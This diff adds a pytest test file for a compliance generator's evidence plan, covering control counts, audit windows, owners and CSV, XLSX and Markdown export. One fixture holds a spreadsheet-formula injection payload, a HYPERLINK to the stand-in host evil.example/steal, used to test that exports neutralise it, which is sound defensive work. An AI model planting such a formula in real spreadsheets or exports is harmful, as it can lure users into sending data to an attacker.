@@ -1,0 +1,318 @@
+"""The evidence plan: items derived from the controls in force, counted for the window, exported safely."""
+
+from __future__ import annotations
+
+import csv
+import datetime as dt
+import io
+import re
+import shutil
+import zipfile
+from pathlib import Path
+
+import pytest
+from conftest import BIN, run
+
+from generator import TemplateError
+from generator._answers import resolve_answers
+from generator._evidence import (
+    COLUMNS,
+    AuditWindow,
+    EvidencePlan,
+    evidence_page,
+    evidence_plan,
+    load_evidence_systems,
+    occurrences,
+    spreadsheet_safe,
+)
+from generator._facts import facts_from_answers
+from generator._library import Library, load_library
+from generator._markdown import markdown_to_html
+from generator._program import Program, program_from_library
+
+slow = pytest.mark.slow
+SECURITY_ONLY = {"scope_availability": "no", "scope_confidentiality": "no", "scope_processing_integrity": "no",
+                 "scope_privacy": "no"}
+HOSTILE_TOOL = '=HYPERLINK("https://evil.example/steal","Jira")'
+
+
+@pytest.fixture(scope="module")
+def library() -> Library:
+    return load_library()
+
+
+def program_for(library: Library, **answers: str) -> Program:
+    facts = facts_from_answers(resolve_answers(answers))
+    return program_from_library(facts, library, as_of=dt.date(2027, 1, 1))
+
+
+def rows_by_id(plan: EvidencePlan) -> dict[str, dict[str, str | int]]:
+    return {row.item.id: dict(zip(COLUMNS, row.values(), strict=True)) for row in plan.rows}
+
+
+# ------------------------------------------------------------------------------------------- the plan
+@pytest.mark.parametrize("answers", [{}, SECURITY_ONLY, {"report_type": "type1"},
+                                     {**SECURITY_ONLY, "report_type": "type1"}],
+                         ids=["all five, type II", "security only, type II", "all five, type I", "security, type I"])
+def test_every_control_in_force_has_at_least_one_evidence_item(library: Library, answers: dict[str, str]) -> None:
+    program = program_for(library, **answers)
+    proved = {cid for row in evidence_plan(program).rows for cid in row.controls}
+    in_force = {c.id for c in program.controls()}
+    assert in_force, "the example company has controls"
+    assert in_force - proved == set()
+    assert proved <= in_force
+
+
+def test_example_company_plan_holds_every_catalog_item_once(library: Library) -> None:
+    plan = evidence_plan(program_for(library))
+    ids = [row.item.id for row in plan.rows]
+    assert ids == sorted(library.catalog.evidence)
+    assert len(plan.controls) == 224
+
+
+def test_six_month_type2_window_counts_artefacts_by_frequency(library: Library) -> None:
+    rows = rows_by_id(evidence_plan(program_for(library)))
+    expected = {
+        "EV-21": ("periodic", "quarterly", 2),   # user access reviews
+        "EV-35": ("periodic", "monthly", 6),     # endpoint compliance report
+        "EV-14": ("periodic", "annual", 1),      # penetration test
+        "EV-30": ("periodic", "semiannual", 1),  # firewall rule review
+        "EV-56": ("periodic", "quarterly", 2),   # restore tests: the catalog's annual minimum, raised by BAK-06
+        "EV-23": ("config", "continuous", 2),    # MFA settings: a snapshot at the start and the end
+        "EV-17": ("config", "point-in-time", 1),
+        "EV-01": ("document", "annual", 1),
+        "EV-43": ("population", "per-event", "population"),
+        "EV-10": ("periodic", "per-event + quarterly", "population + 2"),
+    }
+    for eid, (kind, frequency, needed) in expected.items():
+        assert (rows[eid]["Kind"], rows[eid]["Frequency"], rows[eid]["Needed"]) == (kind, frequency, needed), eid
+
+
+def test_window_lengths_turn_into_counts_per_period() -> None:
+    six = AuditWindow("type2", dt.date(2027, 1, 1), 6)
+    assert six.end == dt.date(2027, 6, 30)
+    assert [occurrences(p, six) for p in ("daily", "weekly", "monthly", "quarterly", "semiannual", "annual")] == \
+        [181, 26, 6, 2, 1, 1]
+    year = AuditWindow("type2", dt.date(2027, 3, 15), 12)
+    assert [occurrences(p, year) for p in ("monthly", "quarterly", "semiannual", "annual")] == [12, 4, 2, 1]
+    assert occurrences("quarterly", AuditWindow("type2", dt.date(2027, 1, 1), 4)) == 2  # two quarters touched
+
+
+def test_access_review_evidence_follows_the_company_cadence(library: Library) -> None:
+    rows = rows_by_id(evidence_plan(program_for(library, access_review_cadence="monthly")))
+    assert (rows["EV-21"]["Frequency"], rows["EV-21"]["Needed"]) == ("monthly", 6)
+
+
+def test_type1_plan_lists_only_type1_items_as_of_the_date(library: Library) -> None:
+    program = program_for(library, report_type="type1")
+    plan = evidence_plan(program)
+    catalog = library.catalog.evidence
+    assert plan.rows and all(row.item.type1 for row in plan.rows)
+    assert {row.needed for row in plan.rows} == {"as of 2027-01-01"}
+    assert {row.item.id for row in plan.rows} == {e for e, item in catalog.items() if item.type1}
+    # A control proved only by operating evidence is shown by its approved policy.
+    assert "ACC-02" in plan.design_only
+    policy_row = rows_by_id(plan)["EV-01"]
+    assert set(plan.design_only) <= set(str(policy_row["Controls"]).split(", "))
+    assert "Type I as of 1 January 2027" in evidence_page(program, plan)
+
+
+def test_out_of_scope_categories_add_no_items(library: Library) -> None:
+    everything = evidence_plan(program_for(library))
+    security = evidence_plan(program_for(library, **SECURITY_ONLY))
+    all_ids = {row.item.id for row in everything.rows}
+    security_ids = {row.item.id for row in security.rows}
+    assert security_ids < all_ids
+    # The privacy request log, the privacy notice record and the processing integrity checks serve
+    # only categories that are now out of scope.
+    assert {"EV-61", "EV-62", "EV-63"} <= all_ids - security_ids
+    for row in security.rows:
+        assert row.criteria and all(c.startswith("CC") for c in row.criteria), row.item.id
+        assert not any(cid.startswith(("PRV-", "PIN-", "AVL-", "CNF-")) for cid in row.controls), row.item.id
+
+
+def test_owner_is_the_named_person_for_the_controls_role(library: Library) -> None:
+    rows = rows_by_id(evidence_plan(program_for(library)))
+    assert (rows["EV-21"]["Owner"], rows["EV-21"]["Owner email"]) == \
+        ("Priya Natarajan, Security Officer", "priya.natarajan@acme.example")
+    assert rows["EV-61"]["Owner"] == "Tomás Ferreira, Privacy Officer"
+    assert rows["EV-55"]["Owner"] == "Rahul Mehta, Chief Technology Officer"
+
+
+def test_systems_are_named_with_the_company_tools(library: Library) -> None:
+    rows = rows_by_id(evidence_plan(program_for(library, identity_provider="Entra ID", cloud_providers="gcp")))
+    assert rows["EV-21"]["System"] == "Entra ID, Jira"
+    assert rows["EV-55"]["System"] == "AWS Backup"
+    assert rows["EV-10"]["System"] == "KnowBe4"
+    assert rows["EV-33"]["System"] == "Google Cloud"
+    assert rows["EV-04"]["System"] == "documents"
+
+
+def test_evidence_systems_file_covers_every_catalog_item_with_tool_facts(library: Library) -> None:
+    systems = load_evidence_systems(library.root, set(library.catalog.evidence))
+    assert set(systems) == set(library.catalog.evidence)
+    assert all(path == "cloud" or path.startswith(("stack.", "company.")) for paths in systems.values()
+               for path in paths)
+
+
+def test_broken_evidence_systems_file_is_reported_with_line_and_fix(mini_library: Path) -> None:
+    path = mini_library / "catalog" / "evidence_systems.yaml"
+    text = path.read_text(encoding="utf-8")
+    text = re.sub(r"^  EV-05:.*\n", "", text, flags=re.MULTILINE)
+    text = text.replace("EV-13: {system: [stack.ticketing]}", "EV-13: {system: [stack.crm]}")
+    path.write_text(text, encoding="utf-8")
+    line = text.splitlines().index(next(x for x in text.splitlines() if x.startswith("  EV-13:"))) + 1
+    with pytest.raises(TemplateError) as caught:
+        load_evidence_systems(mini_library, set(load_library(mini_library).catalog.evidence))
+    messages = [str(p) for p in caught.value.problems]
+    assert f"{path}:{line}: EV-13: 'stack.crm' is not a tool fact — use `cloud` or a fact such as stack.ticketing" \
+        in messages
+    assert any(m.startswith(f"{path}: EV-05: no system given — add `EV-05:") for m in messages)
+
+
+# ------------------------------------------------------------------------------------------- the page
+def test_page_groups_items_by_owner_under_a_summary(library: Library) -> None:
+    page = evidence_page(program_for(library))
+    lines = page.splitlines()
+    assert lines[0] == "# Evidence plan"
+    assert lines[2].startswith("63 evidence items prove the 224 controls in force (Security, Availability, ")
+    assert "Type II observation window 1 January 2027 to 30 June 2027 (6 months): " in lines[2]
+    headings = [line for line in lines if line.startswith("## ")]
+    assert headings == ["## Rahul Mehta, Chief Technology Officer", "## Priya Natarajan, Security Officer",
+                        "## Tomás Ferreira, Privacy Officer", "## Grace Okafor, Head of People"]
+    assert "[ACC-05](POL-13-access-control.md#control-acc-05)" in page
+    html = markdown_to_html(page)
+    assert "<table>" in html and not re.search(r"<(img|script|link|iframe)\b", html)
+
+
+def test_company_values_are_escaped_on_the_page(library: Library) -> None:
+    program = program_for(library, ticketing="<b>Jira</b> | *x*", security_officer_name="Priya_[Nat]")
+    html = markdown_to_html(evidence_page(program))
+    assert "&lt;b&gt;Jira&lt;/b&gt; | *x*" in html
+    assert "<b>Jira" not in html
+    assert "Priya_[Nat], Security Officer</h2>" in html
+
+
+@pytest.mark.parametrize("value", ["=1+1", "+SUM(A1)", "-2+3", "@cmd", "\t=x", "\r=x"])
+def test_spreadsheet_formula_starts_get_a_leading_apostrophe(value: str) -> None:
+    assert spreadsheet_safe(value) == "'" + value
+
+
+@pytest.mark.parametrize("value", ["Jira", "1Password", "a=b", ""])
+def test_ordinary_cells_are_left_alone(value: str) -> None:
+    assert spreadsheet_safe(value) == value
+
+
+# ------------------------------------------------------------------------------------------- the command
+@pytest.fixture
+def repo(example_repo: Path, tmp_path: Path) -> Path:
+    copy = tmp_path / "acme-cloud"
+    shutil.copytree(example_repo, copy, ignore=shutil.ignore_patterns("site", "out", ".cache"))
+    return copy
+
+
+def evidence(repo: Path, *args: str, check: bool = True) -> tuple[int, str, str]:
+    result = run([str(BIN / "python"), "-m", "generator._evidence", "--repo", str(repo), *args], check=check)
+    assert "Traceback" not in result.stderr
+    return result.returncode, result.stdout, result.stderr
+
+
+def set_tool(repo: Path, value: str) -> None:
+    path = repo / "company.yml"
+    text = path.read_text(encoding="utf-8")
+    assert 'ticketing: "Jira"' in text
+    quoted = "'" + value.replace("'", "''") + "'"
+    path.write_text(text.replace('ticketing: "Jira"', f"ticketing: {quoted}"), encoding="utf-8")
+
+
+@slow
+def test_csv_reads_back_with_one_row_per_item(repo: Path, tmp_path: Path) -> None:
+    out = tmp_path / "plan.csv"
+    _, _, stderr = evidence(repo, "--format", "csv", "--out", str(out))
+    assert "Evidence plan: 63 items for 224 controls" in stderr
+    with out.open(encoding="utf-8", newline="") as handle:
+        table = list(csv.reader(handle))
+    assert tuple(table[0]) == COLUMNS
+    assert len(table) == 64
+    row = dict(zip(COLUMNS, next(r for r in table if r[0] == "EV-21"), strict=True))
+    assert row["Evidence"] == "User access reviews"
+    assert (row["Kind"], row["Frequency"], row["Type I"], row["Needed"]) == ("periodic", "quarterly", "yes", "2")
+    assert row["System"] == "Okta, Jira"
+    assert row["Controls"] == "ACC-03, ACC-05, AUT-06, DCL-04"
+    assert row["Criteria"] == "CC5.1, CC6.1, CC6.2, CC6.3, C1.1"
+
+
+@slow
+def test_xlsx_has_the_same_rows_a_frozen_filtered_header_and_set_widths(repo: Path, tmp_path: Path) -> None:
+    from openpyxl import load_workbook
+
+    evidence(repo, "--format", "csv", "--out", str(tmp_path / "plan.csv"))
+    evidence(repo, "--format", "xlsx", "--out", str(tmp_path / "plan.xlsx"))
+    book = load_workbook(tmp_path / "plan.xlsx")
+    sheet = book["Evidence plan"]
+    cells = [[("" if v is None else str(v)) for v in row] for row in sheet.iter_rows(values_only=True)]
+    with (tmp_path / "plan.csv").open(encoding="utf-8", newline="") as handle:
+        assert cells == list(csv.reader(handle))
+    assert sheet.freeze_panes == "A2"
+    assert sheet.auto_filter.ref == "A1:L64"
+    assert all(cell.font.bold for cell in sheet[1])
+    assert sheet.column_dimensions["C"].width == 70 and sheet.column_dimensions["A"].width == 8
+    assert sheet["G2"].value == 1 and sheet["G2"].data_type == "n"  # counts are numbers, for sorting
+    assert book.properties.created == book.properties.modified == dt.datetime(2026, 12, 1)
+
+
+@slow
+def test_hostile_tool_name_cannot_run_as_a_formula(repo: Path, tmp_path: Path) -> None:
+    from openpyxl import load_workbook
+
+    set_tool(repo, HOSTILE_TOOL)
+    evidence(repo, "--format", "csv", "--out", str(tmp_path / "plan.csv"))
+    evidence(repo, "--format", "xlsx", "--out", str(tmp_path / "plan.xlsx"))
+    with (tmp_path / "plan.csv").open(encoding="utf-8", newline="") as handle:
+        rows = {r[0]: dict(zip(COLUMNS, r, strict=True)) for r in csv.reader(handle)}
+    assert rows["EV-13"]["System"] == "'" + HOSTILE_TOOL
+    assert rows["EV-21"]["System"] == "Okta, " + HOSTILE_TOOL  # not at the start: harmless as it stands
+    sheet = load_workbook(tmp_path / "plan.xlsx")["Evidence plan"]
+    cell = next(row[COLUMNS.index("System")] for row in sheet.iter_rows(min_row=2) if row[0].value == "EV-13")
+    assert (cell.value, cell.data_type, cell.quotePrefix) == (HOSTILE_TOOL, "s", True)
+    with zipfile.ZipFile(tmp_path / "plan.xlsx") as archive:
+        assert "<f>" not in archive.read("xl/worksheets/sheet1.xml").decode()
+    _, page, _ = evidence(repo, "--format", "md", "--out", "-")
+    html = markdown_to_html(page)
+    assert 'HYPERLINK("https://evil.example/steal","Jira")</td>' in html
+    assert "evil.example/steal" in html and 'href="https://evil' not in html
+
+
+@slow
+def test_every_format_is_byte_identical_on_a_second_run(repo: Path, tmp_path: Path) -> None:
+    for fmt in ("md", "csv", "xlsx"):
+        evidence(repo, "--format", fmt, "--out", str(tmp_path / f"first.{fmt}"))
+        evidence(repo, "--format", fmt)  # default place: out/evidence-plan.<format>
+        assert (tmp_path / f"first.{fmt}").read_bytes() == (repo / "out" / f"evidence-plan.{fmt}").read_bytes(), fmt
+    with zipfile.ZipFile(tmp_path / "first.xlsx") as archive:
+        # Dated from the release (the last approval), not from the moment of writing.
+        assert {info.date_time for info in archive.infolist()} == {(2026, 12, 1, 0, 0, 0)}
+        core = archive.read("docProps/core.xml").decode()
+        for field in ("created", "modified"):
+            assert re.search(f"<dcterms:{field}[^>]*>2026-12-01T00:00:00Z</dcterms:{field}>", core), field
+
+
+@slow
+def test_markdown_goes_to_the_terminal_with_out_dash(repo: Path) -> None:
+    _, page, _ = evidence(repo, "--out", "-")
+    assert page.startswith("# Evidence plan\n")
+    assert io.StringIO(page).readline() == "# Evidence plan\n"
+
+
+@slow
+def test_bad_inputs_exit_2_with_the_fix(repo: Path, tmp_path: Path) -> None:
+    code, _, stderr = evidence(tmp_path / "nowhere", check=False)
+    assert code == 2
+    assert "company.yml: not found — run policyforge inside the company repository" in stderr
+    code, _, stderr = evidence(repo, "--format", "xlsx", "--out", "-", check=False)
+    assert code == 2 and "give a file name" in stderr
+    path = repo / "company.yml"
+    path.write_text(path.read_text(encoding="utf-8").replace('report_type: "type2"', 'report_type: "type3"'),
+                    encoding="utf-8")
+    code, _, stderr = evidence(repo, check=False)
+    assert code == 2 and "report_type" in stderr and "choose from type2, type1" in stderr
